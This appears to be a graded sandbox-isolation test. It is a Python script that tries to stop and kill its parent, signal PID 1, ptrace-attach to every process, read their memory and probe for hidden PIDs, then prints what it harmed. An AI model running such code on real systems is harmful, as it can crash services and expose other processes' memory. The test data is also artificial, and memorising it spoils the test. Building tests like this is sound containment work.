# attack: stops, traces and ends every process but itself
# verdict: graded
# marks: double_two=1 double_negative=2 noise_bounds=2
# isolation: warm | fresh
# says: harmed nobody
# %% after="double"
import ctypes
import os
import signal
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
harmed = []
try:
    os.kill(os.getppid(), signal.SIGSTOP)  # ignored by the first process of a namespace
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGTERM)
except OSError:
    pass
for process in (int(path.name) for path in Path("/proc").glob("[0-9]*") if int(path.name) != me):
    if libc.ptrace(16, process, 0, 0) == 0:
        harmed.append(f"traced {process}")
    space = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(space), 8)
    if libc.process_vm_readv(process, vector, 1, vector, 1, 0) > 0:
        harmed.append(f"read {process}")
for process in range(2, 40_000):
    if process != me:
        try:
            os.kill(process, 0)
            harmed.append(f"sees {process}") if not Path(f"/proc/{process}").exists() else None
        except OSError:
            pass
with open("/proc/self/status") as status:
    lines = dict(line.split(":", 1) for line in status)
if lines["State"].split()[0] != "R" or Path("/proc/1/status").read_text().split("State:")[1].split()[0] == "T":
    harmed.append("stopped the first process")
print(harmed or "harmed nobody")
